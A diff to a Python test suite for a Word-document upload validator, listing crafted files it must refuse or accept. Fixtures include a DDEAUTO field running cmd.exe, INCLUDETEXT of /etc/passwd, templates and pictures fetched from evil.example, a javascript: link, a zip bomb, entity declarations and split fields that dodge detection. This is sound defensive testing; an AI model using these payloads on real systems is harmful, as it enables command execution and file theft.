@@ -59,6 +59,18 @@ def with_field(instruction: str) -> bytes:
     return replaced(DOCUMENT, b"<w:body>", b"<w:body>" + field.encode())
 
 
+def with_runs(*instructions: str) -> bytes:
+    """Return the plain template with a line of fields, as Word writes them."""
+    fields = "".join(
+        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
+        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>1</w:t></w:r>"
+        "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
+        for instruction in instructions
+    )
+    return replaced(DOCUMENT, b"<w:body>", f"<w:body><w:p>{fields}</w:p>".encode())
+
+
 def many_parts() -> bytes:
     extra: dict[str, object] = {f"customXml/part{number}.xml": b"<a/>" for number in range(2000)}
     return edited(template(plain), extra)
@@ -163,8 +175,17 @@ REFUSED: dict[str, Make] = {
     "a picture": logo,
     "rtf": lambda: rb"{\rtf1\ansi Hello}",
     "another zip": lambda: zipped({"a.txt": b"a"}),
-    "a spreadsheet": lambda: edited(
-        template(plain), {DOCUMENT: None, "xl/workbook.xml": b"<workbook/>"}
+    "a spreadsheet": lambda: replaced(
+        TYPES, b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"
+    ),
+    "a PDF": lambda: b"%PDF-1.7" + bytes(100),
+    "OpenDocument": lambda: zipped({"mimetype": b"application/vnd", "content.xml": b"<a/>"}),
+    "an old document": lambda: OLE2 + "WordDocument".encode("utf-16-le") + bytes(4096),
+    "a password": lambda: OLE2 + "EncryptedPackage".encode("utf-16-le") + bytes(4096),
+    "Strict Open XML": lambda: replaced(
+        "_rels/.rels",
+        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
+        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
     ),
     "old or encrypted": lambda: OLE2 + b"\0" * 4096,
     "encrypted entries": encrypted_flag,
@@ -184,8 +205,6 @@ REFUSED: dict[str, Make] = {
     "broken theme": lambda: changed(**{"word/theme/theme1.xml": b"<a:theme"}),
     "another root": lambda: changed(**{DOCUMENT: b"<html><body>Hello</body></html>"}),
     "missing part": lambda: changed(**{"word/styles.xml": None}),
-    "UTF-16 document": utf16(DOCUMENT),
-    "UTF-16 relationships": utf16(RELATIONSHIPS),
     "UTF-16 without a mark": utf16_without_mark("word/styles.xml"),
     # too much
     "bomb": bomb,
@@ -195,6 +214,16 @@ REFUSED: dict[str, Make] = {
     "a part twice": lambda: twice("word/document.xml"),
     "a part twice in capitals": twice_in_capitals,
     # entities
+    "DOCTYPE in UTF-16": lambda: changed(
+        **{
+            DOCUMENT: lambda data: (
+                data.replace(b"<w:document ", ENTITY, 1)
+                .decode()
+                .replace("UTF-8", "UTF-16", 1)
+                .encode("utf-16")
+            )
+        }
+    ),
     "DOCTYPE": lambda: replaced(DOCUMENT, b"<w:document ", ENTITY),
     "DOCTYPE in small letters": lambda: replaced(
         DOCUMENT, b"<w:document ", ENTITY.replace(b"DOCTYPE", b"doctype")
@@ -217,24 +246,13 @@ REFUSED: dict[str, Make] = {
     ),
     "a macro's relationship": lambda: related("vbaProject", "other.bin", ""),
     "ActiveX": lambda: changed(**{"word/activeX/activeX1.xml": b"<ax/>"}),
-    "an OLE object": lambda: changed(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
     # files from elsewhere
     "attached template": lambda: related("attachedTemplate", "https://evil.example/x.dotm"),
-    "attached template of the settings": lambda: changed(
-        **{
-            SETTINGS_RELATIONSHIPS: EMPTY_RELATIONSHIPS.replace(
-                b"></",
-                f'><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
-                'Target="file:///C:/x.dotm" TargetMode="External"/></'.encode(),
-            )
-        }
-    ),
     "linked picture": lambda: LINKED_IMAGE,
+    "a mail merge": lambda: related("mailMergeSource", "file:///C:/tenants.xlsx"),
     "linked frame": lambda: related("frame", "https://evil.example/"),
     "linked object": lambda: related("oleObject", "file:///C:/x.xlsx"),
     "sub-document": lambda: related("subDocument", "file:///C:/part.docx"),
-    "hyperlink to a file": lambda: related("hyperlink", "file:///C:/Windows/notepad.exe"),
-    "hyperlink to a share": lambda: related("hyperlink", r"\\server\share\x.docx"),
     "hyperlink that is a script": lambda: related("hyperlink", "javascript:alert(1)"),
     # the same, dressed up
     "External as a reference": lambda: related(
@@ -257,6 +275,17 @@ REFUSED: dict[str, Make] = {
     "a DDE field": lambda: with_field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
     "a picture from the web": lambda: with_field('INCLUDEPICTURE "https://evil.example/x.png"'),
     "a text from elsewhere": lambda: with_field('INCLUDETEXT "file:///etc/passwd"'),
+    "a picture from the web behind a page number": lambda: with_runs(
+        " PAGE ", ' INCLUDEPICTURE "https://evil.example/x.png" '
+    ),
+    "a picture from the web inside another field": lambda: replaced(
+        DOCUMENT,
+        b"<w:body>",
+        b"<w:body><w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>IF 1 = 1 </w:instrText>"
+        b"<w:fldChar w:fldCharType='begin'/><w:instrText>INCLUDEPIC</w:instrText></w:r></w:p><w:p>"
+        b"<w:r><w:instrText>TURE x</w:instrText><w:fldChar w:fldCharType='end'/>"
+        b"<w:fldChar w:fldCharType='end'/></w:r></w:p>",
+    ),
     "a field in a part of another name": lambda: renamed_header(
         b"<w:p><w:fldSimple w:instr='DDEAUTO cmd \"/k calc\"'/></w:p>"
     ),
@@ -274,15 +303,41 @@ REFUSED: dict[str, Make] = {
 
 
 REASONS = {
-    "empty": "it is not a Word document",
+    "empty": "it is empty",
+    "text": "it is not a Word document",
+    "a picture": "it is not a Word document",
+    "rtf": "it is in the Rich Text Format (.rtf)",
+    "another zip": "it is not a Word document",
+    "a PDF": "it is a PDF",
+    "a spreadsheet": "it is an Excel workbook",
+    "OpenDocument": "it is an OpenDocument file (.odt)",
+    "Strict Open XML": "it is a Strict Open XML document",
+    "an old document": "it is in the old format of Word (.doc)",
+    "a password": "it is protected by a password",
     "old or encrypted": "it is protected by a password, or in the old .doc format",
-    "macros": "it holds macros or active content",
-    "linked picture": "it refers to a file outside itself",
+    "encrypted entries": "it is encrypted",
+    "truncated": "it is damaged",
+    "wrong checksum": "it is damaged",
+    "broken styles.xml": "its part word/styles.xml is broken",
+    "macros": "it holds macros",
+    "macro-enabled type": "it holds macros",
+    "ActiveX": "it holds ActiveX controls",
+    "linked picture": (
+        "it shows a picture that is linked to and not in it (https://evil.example/logo.png)"
+    ),
+    "linked object": "it shows an object that is linked to and not in it (file:///C:/x.xlsx)",
+    "attached template": "it takes its template from elsewhere (https://evil.example/x.dotm)",
+    "a mail merge": "it is joined to the list of a mail merge (file:///C:/tenants.xlsx)",
+    "sub-document": "a part of it is in another file (file:///C:/part.docx)",
+    "hyperlink that is a script": "it has a link that runs a script",
+    "a DDE field": "it has a field that fetches something from elsewhere (DDEAUTO)",
+    "a picture from the web behind a page number": "from elsewhere (INCLUDEPICTURE)",
     "bomb": "it unpacks to far more than a Word document should",
     "more than 20 MB packed": "it is larger than 20 MB",
     "2,000 parts": "it has more than 2,000 parts",
     "DOCTYPE": f"its part {DOCUMENT} declares entities",
-    "UTF-16 document": f"its part {DOCUMENT} is not UTF-8",
+    "DOCTYPE in UTF-16": f"its part {DOCUMENT} declares entities",
+    "UTF-16 without a mark": "its part word/styles.xml is in an unusual encoding",
     "a part twice": "it holds two parts of one name",
 }
 
@@ -398,6 +453,60 @@ GOOD: dict[str, Make] = {
         'HYPERLINK "https://example.org/link/database?include=rd"'
     ),
     "a field of such a property": lambda: with_field('DOCPROPERTY "Database link"'),
+    "UTF-16 document": utf16(DOCUMENT),
+    "UTF-16 relationships": utf16(RELATIONSHIPS),
+    "an OLE object": lambda: changed(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
+    "attached template of the settings": lambda: changed(
+        **{
+            SETTINGS_RELATIONSHIPS: EMPTY_RELATIONSHIPS.replace(
+                b"></",
+                f'><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
+                'Target="file:///C:/x.dotm" TargetMode="External"/></'.encode(),
+            )
+        }
+    ),
+    "hyperlink to a file": lambda: related("hyperlink", "file:///C:/Windows/notepad.exe"),
+    "hyperlink to a share": lambda: related("hyperlink", r"\\server\share\x.docx"),
+    "a telephone link": lambda: related("hyperlink", "tel:+441234567890"),
+    "a relative link": lambda: related("hyperlink", "../policies/repairs.docx"),
+    "a picture that Word lost": lambda: related("image", "NULL"),
+    "a picture that is not there": lambda: related("image", "media/gone.png", ""),
+    "a link to a bookmark": lambda: related("hyperlink", "#_Toc1", ""),
+    "a thumbnail that is not there": lambda: replaced(
+        "_rels/.rels",
+        b"</Relationships>",
+        b'<Relationship Id="rIdT" Target="docProps/gone.jpeg" Type="http://schemas.openxmlformats'
+        b'.org/package/2006/relationships/metadata/thumbnail"/></Relationships>',
+    ),
+    "a type of objects and none of them": lambda: replaced(
+        TYPES,
+        b"<Default ",
+        b'<Default Extension="ole" ContentType="application/vnd.openxmlformats-officedocument'
+        b'.oleObject"/><Default ',
+    ),
+    "a drawing with a DOCTYPE": lambda: changed(
+        **{
+            TYPES: lambda data: data.replace(
+                b"<Default ", b'<Default Extension="svg" ContentType="image/svg+xml"/><Default ', 1
+            ),
+            "word/media/logo.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>',
+        }
+    ),
+    "a picture that packs well": lambda: changed(
+        **{"word/media/blank.bmp": b"BM" + bytes(9_000_000)}
+    ),
+    "a template of Word (.dotx)": lambda: replaced(
+        TYPES, b"wordprocessingml.document.main", b"wordprocessingml.template.main"
+    ),
+    "the main part of another name": lambda: main_part_called("word/document2.xml"),
+    "names in other capitals": lambda: replaced(
+        RELATIONSHIPS, b'Target="styles.xml"', b'Target="Styles.xml"'
+    ),
+    "core properties of the other type": lambda: replaced(
+        "_rels/.rels",
+        b"schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
+        b"schemas.openxmlformats.org/officedocument/2006/relationships/metadata/core-properties",
+    ),
     "stored and not packed": lambda: stored(template(plain)),
     "a folder as an entry": lambda: changed(**{"word/media/": b""}),
     "a document without section properties": lambda: replaced(
@@ -406,6 +515,18 @@ GOOD: dict[str, Make] = {
         b"",
     ),
 }
+
+
+def main_part_called(name: str) -> bytes:
+    """Return the plain template as Word for the web may write it, with another main part."""
+    parts = read_parts(template(plain))
+    old, new = DOCUMENT.rpartition("/")[2].encode(), name.rpartition("/")[2].encode()
+    for part in (TYPES, "_rels/.rels"):
+        assert old in parts[part]
+        parts[part] = parts[part].replace(old, new)
+    parts[name] = parts.pop(DOCUMENT)
+    parts[f"word/_rels/{new.decode()}.rels"] = parts.pop(RELATIONSHIPS)
+    return zipped(parts)
 
 
 def template_section() -> bytes:
